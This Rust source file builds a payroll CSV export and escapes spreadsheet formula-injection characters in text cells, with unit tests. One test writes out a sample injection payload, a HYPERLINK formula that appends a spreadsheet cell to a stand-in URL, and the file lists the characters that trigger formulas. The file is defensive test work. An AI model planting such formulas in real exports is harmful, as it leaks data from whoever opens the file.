//! The payroll export: a period's approved and paid statements as CSV, one row per statement.
//!
//! Payroll opens this file in a spreadsheet, where a cell starting with `=` (or `+`, `-`, `@`)
//! is a formula: a member who names themself `=HYPERLINK(…)` would run it on the payroll
//! clerk's machine. Every column that carries text goes through [`text_cell`]; the columns the
//! server formats itself (IDs, dates, versions, the total) are left as they are, so the total
//! stays a number the spreadsheet can add up.

use chrono::NaiveDate;
use rust_decimal::Decimal;
use sea_orm::ConnectionTrait;

use super::store;
use crate::core::error::{AppError, AppResult};
use crate::core::ids::OrgId;
use crate::quota::model::QuotaGrain;

/// The file name and CSV body for the period of `grain` containing `date`.
pub async fn payouts_csv(
    org: OrgId,
    db: &impl ConnectionTrait,
    grain: QuotaGrain,
    date: NaiveDate,
) -> AppResult<(String, String)> {
    let s = crate::core::settings::settings(org, db).await?;
    let period = crate::quota::store::period_of(&s, grain, date);
    let currency = crate::org::store::currency(org, db).await?;
    let statements = store::approved_in_period(org, db, grain.as_str(), period.start_date).await?;
    let ids: Vec<uuid::Uuid> = statements.iter().map(|s| s.member_id).collect();
    let members = crate::org::store::members_by_ids(org, db, &ids).await?;
    let mut w = csv::Writer::from_writer(Vec::new());
    let bad = |e: csv::Error| AppError::Internal(e.into());
    w.write_record([
        "member_id",
        "member_name",
        "email",
        "period_start",
        "period_end",
        "statement_id",
        "version",
        "status",
        "total",
        "currency",
        "approved_at",
        "paid_at",
    ])
    .map_err(bad)?;
    for st in &statements {
        let m = members.iter().find(|m| m.id == st.member_id);
        w.write_record([
            st.member_id.to_string(),
            m.map_or_else(String::new, |m| text_cell(&m.name)),
            m.map_or_else(String::new, |m| text_cell(&m.email)),
            st.period_start.to_string(),
            st.period_end.pred_opt().unwrap_or(st.period_end).to_string(),
            st.id.to_string(),
            st.version.to_string(),
            text_cell(&st.status),
            format!("{:.2}", Decimal::new(st.total_cents, 2)),
            text_cell(&currency),
            st.approved_at.map_or_else(String::new, |t| t.to_rfc3339()),
            st.paid_at.map_or_else(String::new, |t| t.to_rfc3339()),
        ])
        .map_err(bad)?;
    }
    let body = String::from_utf8(w.into_inner().map_err(|e| AppError::Internal(anyhow::anyhow!("{e}")))?)
        .map_err(|e| AppError::Internal(e.into()))?;
    Ok((format!("payouts-{}-{}.csv", grain.as_str().to_lowercase(), period.start_date), body))
}

/// Characters a spreadsheet may read as the start of a formula (OWASP "CSV injection"), with
/// their full-width forms, which some spreadsheets fold to the ASCII ones.
const FORMULA_STARTS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'];

/// A text cell that a spreadsheet shows as text: a value whose first character, or first
/// character after leading white space, could start a formula gets a leading `'`. Quoting
/// of commas, quotes and line breaks is the CSV writer's.
pub fn text_cell(value: &str) -> String {
    let first = value.chars().next();
    let first_visible = value.trim_start().chars().next();
    if [first, first_visible].into_iter().flatten().any(|c| FORMULA_STARTS.contains(&c)) {
        format!("'{value}")
    } else {
        value.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_escaped() {
        for start in FORMULA_STARTS {
            let value = format!("{start}HYPERLINK(\"http://x/?\"&I2,\"open\")");
            assert_eq!(text_cell(&value), format!("'{value}"), "{start:?}");
            if !start.is_whitespace() {
                let padded = format!("  {value}");
                assert_eq!(text_cell(&padded), format!("'{padded}"), "after spaces: {start:?}");
            }
        }
        assert_eq!(text_cell("\n=1+1"), "'\n=1+1", "a line break before the formula");
    }

    #[test]
    fn plain_text_is_unchanged() {
        for value in ["", "Jan de Vries", "rep@demo.test", "APPROVED", "EUR", "O'Brien", "1+1", "a=b", "Zoë -"] {
            assert_eq!(text_cell(value), value);
        }
        assert_eq!(text_cell("'=already"), "'=already", "a leading quote is text already");
    }

    #[test]
    fn every_ascii_start_is_classified() {
        for b in 0u8..=127 {
            let c = b as char;
            let value = format!("{c}x");
            let escaped = text_cell(&value).starts_with('\'') && c != '\'';
            let expected = matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r');
            assert_eq!(escaped, expected, "{c:?}");
        }
    }
}
